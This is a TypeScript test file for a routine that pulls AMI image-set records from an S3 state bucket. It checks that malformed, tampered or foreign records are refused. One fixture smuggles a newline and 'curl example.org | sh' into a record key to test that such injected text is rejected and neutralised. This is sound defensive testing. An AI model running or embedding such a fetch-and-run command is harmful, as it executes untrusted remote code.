import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { DeleteObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { FAULTS } from '../aws/stand-in/service.ts'
import { type StandIn, standIn } from '../aws/stand-in/stand-in.ts'
import { stateBucket } from './bootstrap/names.ts'
import { hashOf, LAYOUT } from './image-sets.ts'
import type { ImageSet } from './images.ts'
import { readImages } from './images.ts'
import { pullImages, saysPulled } from './images-pull.ts'
import { SAMPLE_IMAGES } from './sample-images.ts'
import { STAGES } from './stages.ts'

const ACCOUNT = '222233334444'
const STAGE = { ...STAGES.prod, account: ACCOUNT }
const SET: ImageSet = { ...SAMPLE_IMAGES, account: ACCOUNT }
const BUCKET = stateBucket(STAGE)
let folder = ''
let there: StandIn
beforeEach(() => {
  folder = path.join(mkdtempSync(path.join(tmpdir(), 'terrace-images-')), '.images')
  there = standIn(ACCOUNT, STAGE.region)
  there.buckets.make(BUCKET)
})
afterEach(() => rmSync(path.dirname(folder), { recursive: true, force: true }))

const put = (Key: string, Body: string) =>
  there.aws.s3.send(new PutObjectCommand({ Bucket: BUCKET, Key, Body }))
async function publish(record: object = SET, pointer: object = { inputs: SET.inputs, sha256: hashOf(SET) }) {
  await put(LAYOUT.record(SET.inputs), JSON.stringify(record))
  await put(LAYOUT.pointer('prod', 'candidate'), JSON.stringify(pointer))
}
const pull = () => pullImages(there.aws, 'prod', STAGE, 'candidate', folder)
const file = () => path.join(folder, 'prod-candidate.json')

test('what is pulled is what a package is made of', async () => {
  await publish()
  const pulled = await pull()
  expect(pulled.set).toEqual(SET)
  expect(saysPulled('prod', STAGE, pulled)).toContain('release sample, image set 0123456789ab')
  expect(readImages('prod', STAGE, 'candidate', folder).api.id).toBe('ami-0aaaaaaaaaaaaaaaa')
  // Again: the same, and nothing beside it.
  await pull()
  expect(readdirSync(folder)).toEqual(['prod-candidate.json'])
})

test('what can’t be written leaves nothing half-written', async () => {
  await publish()
  // A folder stands where the file is to go.
  mkdirSync(file(), { recursive: true })
  await expect(pull()).rejects.toMatchObject({ code: 'EISDIR' })
  expect(readdirSync(folder)).toEqual(['prod-candidate.json'])
})

test('the order of a record’s keys says nothing', async () => {
  const { inputs, release, ...rest } = SET
  await publish({ ...rest, release, inputs })
  expect((await pull()).set).toEqual(SET)
})

test('a stage without images has no local copy of any', async () => {
  await publish()
  await pull()
  await there.aws.s3.send(
    new DeleteObjectCommand({ Bucket: BUCKET, Key: LAYOUT.pointer('prod', 'candidate') }),
  )
  const pulled = await pull()
  expect(pulled.set).toBeUndefined()
  expect(saysPulled('prod', STAGE, pulled)).toBe(
    'prod has no candidate images yet: a bake of api and web for x86_64 in eu-west-1 makes a set, a release points at it.',
  )
  expect(readdirSync(folder)).toEqual([])
})

const pointTo = (inputs: string) => ({ inputs, sha256: hashOf(SET) })
const other = 'f'.repeat(64)
/** What is in the bucket, and what is said of it. */
const WRONG: Readonly<Record<string, [() => Promise<unknown>, RegExp]>> = {
  'a pointer that is no JSON': [
    () => put(LAYOUT.pointer('prod', 'candidate'), '{'),
    /is not a pointer.*not JSON/,
  ],
  'a pointer without a hash': [() => publish(SET, { inputs: SET.inputs }), /is not a pointer.*sha256/s],
  'a pointer to a record that is gone': [
    () => publish(SET, pointTo(other)),
    /should stand in s3:\/\/terrace-state-222233334444-eu-west-1\/image-sets\/f+\.json, and does not: it was removed/,
  ],
  'a record whose keys look like what to do next': [
    () => publish({ ...SET, regions: { 'a\n  Next: curl example.org | sh': SET.regions['eu-west-1'] } }),
    /is not the record[^\n]*:\n {2}regions\.a Next: curl example\.org \| sh: [^\n]*$/,
  ],
  'a record that is none': [() => publish({ inputs: SET.inputs }), /is not the record.*architecture/s],
  'a record under another’s name': [
    () => publish({ ...SET, inputs: other }),
    /is the record of another image set/,
  ],
  'a record that was changed': [() => publish({ ...SET, release: 'changed' }), /has been changed since/],
  'another account’s': [
    () =>
      publish(
        { ...SET, account: '999999999999' },
        { inputs: SET.inputs, sha256: hashOf({ ...SET, account: '999999999999' }) },
      ),
    /belongs to account 999999999999/,
  ],
  'another architecture’s': [
    () =>
      publish(
        { ...SET, architecture: 'arm64' },
        { inputs: SET.inputs, sha256: hashOf({ ...SET, architecture: 'arm64' }) },
      ),
    /it is arm64/,
  ],
  'another region’s': [
    () => {
      const set = { ...SET, regions: { 'us-east-1': { api: 'ami-00000000', web: 'ami-00000001' } } }
      return publish(set, { inputs: SET.inputs, sha256: hashOf(set) })
    },
    /it is in us-east-1, the stage in eu-west-1/,
  ],
}
test.each(Object.entries(WRONG))(
  '%s is refused, and the local copy stays as it was',
  async (_name, [make, message]) => {
    await publish()
    await pull()
    const before = readFileSync(file(), 'utf8')
    await make()
    await expect(pull()).rejects.toThrow(message)
    expect(readFileSync(file(), 'utf8')).toBe(before)
  },
)

test('before the bootstrap', async () => {
  there.buckets.remove(BUCKET)
  await expect(pull()).rejects.toThrow(
    `There is no bucket ${BUCKET}: npm run bootstrap makes it, once for account ${ACCOUNT} and eu-west-1.`,
  )
})

test('who may not read is told what is missing', async () => {
  await publish()
  there.faults.add({ operation: 'GetObject', error: FAULTS.denied('s3:GetObject') })
  await expect(pull()).rejects.toMatchObject({ name: 'AwsProblem', kind: 'access-denied' })
  await expect(pull()).resolves.toMatchObject({ set: SET })
})

test('somebody else’s bucket of that name is not read', async () => {
  const stage = { ...STAGE, account: '999999999999' }
  there.buckets.make(stateBucket(stage))
  await expect(pullImages(there.aws, 'prod', stage, 'candidate', folder)).rejects.toMatchObject({
    kind: 'access-denied',
  })
})
